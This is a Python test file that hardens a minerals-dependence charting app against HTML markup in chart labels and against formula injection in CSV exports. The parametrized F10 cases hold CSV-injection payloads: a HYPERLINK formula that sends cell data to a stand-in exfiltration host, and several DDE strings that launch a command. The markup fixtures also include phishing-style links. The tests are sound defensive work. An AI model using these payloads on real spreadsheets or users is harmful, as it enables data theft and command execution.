"""F9 and F10 at the unit level: chart builders given ids that validation would refuse still draw no markup,
and every export cell or line that could start a formula is prefixed."""
from __future__ import annotations

import datetime as dt
import io
import json
import re

import pandas as pd
import plotly.io as pio
import pytest

from lib.charts.dependencies import concentration_by_stage, dependence_bars, dependence_heatmap, production_map
from lib.charts.export_controls import live_measures_by_mineral
from lib.charts.figure import inert, escape_plotly_text, visible
from lib.exports import ViewContext, cell, chart_csv, chart_metadata, table_csv
from tests.hardening.corpus import MARKUP_TAG

LINK = '<a href="https://phish.example/ge" target="_top">Ge</a>'
STYLED = '<span style="font-size:60px;color:red">DEU</span>'
BOLD = "<b>In</b><br>INJECT"
VIEW = ViewContext("p", "http://localhost:8501/p", "v1", "2026-06-23", (("Chain", "\u202eevil"),), "now")


@pytest.fixture
def hostile_shares(dataset):
    shares = dataset.table("dependency_shares").head(12).copy()
    shares["mineral_id"] = [LINK, BOLD, "Ga"] * 4
    shares["country"] = [STYLED, '<a href="https://phish.example/kor">KOR</a>', "USA", "CHN"] * 3
    return shares


def spec_text(chart) -> str:
    return pio.to_json(chart.figure, validate=False)


def charts(shares):
    live = pd.DataFrame({"mineral_id": [LINK, BOLD, "Ga"], "state": ["in_force", "suspended", "in_force"],
                         "source_name": ["s"] * 3, "source_url": ["https://example.org/a"] * 3})
    return [dependence_bars(shares, "import_share_from_china", "volume", "ctx"),
            dependence_heatmap(shares.drop_duplicates(["country", "mineral_id"]), "import_share_from_china",
                               "volume", "ctx"),
            production_map(shares, "Gallium", "refining", "ctx"),
            concentration_by_stage(shares.assign(stage=[LINK] * len(shares)), "Gallium", "volume", "ctx"),
            live_measures_by_mineral(live, dt.date(2025, 1, 1), "ctx")]


def test_F9_raw_ids_in_chart_categories_draw_no_markup(hostile_shares):
    for chart in charts(hostile_shares):
        text = spec_text(chart)
        found = re.search(MARKUP_TAG, text, re.IGNORECASE)
        assert not found, (chart.key, text[max(0, found.start() - 80): found.end() + 80])
        assert "&lt;a href" in text or chart.key == "production_map"


def test_F9_category_order_still_matches_the_escaped_categories(hostile_shares):
    live = charts(hostile_shares)[-1]
    spec = json.loads(spec_text(live))
    categories = set(spec["layout"]["yaxis"]["categoryarray"])
    drawn = {y for trace in spec["data"] for y in trace["y"]}
    assert drawn <= categories and any("&lt;b&gt;In" in c for c in categories)


@pytest.mark.parametrize("text, expected", [
    ("<b>x</b>", "&lt;b&gt;x&lt;/b&gt;"),
    ("a &lt; b", "a &lt; b"),  # already escaped by escape_plotly_text(): unchanged
    ("\u202eexe.jpg\u200b", "exe.jpg"),
    ("line\nbreak", "line break"),
])
def test_F9_inert_is_idempotent_and_strips_controls(text, expected):
    assert inert(text) == expected and inert(inert(text)) == expected


def test_F9_text_keeps_only_the_line_breaks_the_charts_add():
    assert inert("one<br>two <i>x</i>", keep_breaks=True) == "one<br>two &lt;i&gt;x&lt;/i&gt;"
    assert escape_plotly_text("<br>") == "&lt;br&gt;"  # a break in data is text, not layout


@pytest.mark.parametrize("payload", ['=HYPERLINK("https://exfil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0",
                                     "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"])
def test_F10_formula_cells_are_prefixed_and_numbers_stay_numbers(payload):
    frame = pd.DataFrame({"text": [payload, "plain"], "number": [-1.5, 2.0], "when": pd.to_datetime(["2024-01-01"] * 2)})
    back = pd.read_csv(io.BytesIO(table_csv(frame)), keep_default_na=False)
    assert back.loc[0, "text"] == "'" + payload and back.loc[1, "text"] == "plain"
    assert back["number"].tolist() == [-1.5, 2.0]
    assert cell(-3) == -3 and cell(None) is None


def test_F10_chart_csv_and_about_file(hostile_shares):
    chart = dependence_bars(hostile_shares.assign(basis_detail="=1+1"), "import_share_from_china", "volume", "ctx")
    assert "'=1+1" in chart_csv(chart).decode()
    about = chart_metadata(chart, VIEW)
    assert "\u202e" not in about and "- Chain: evil" in about
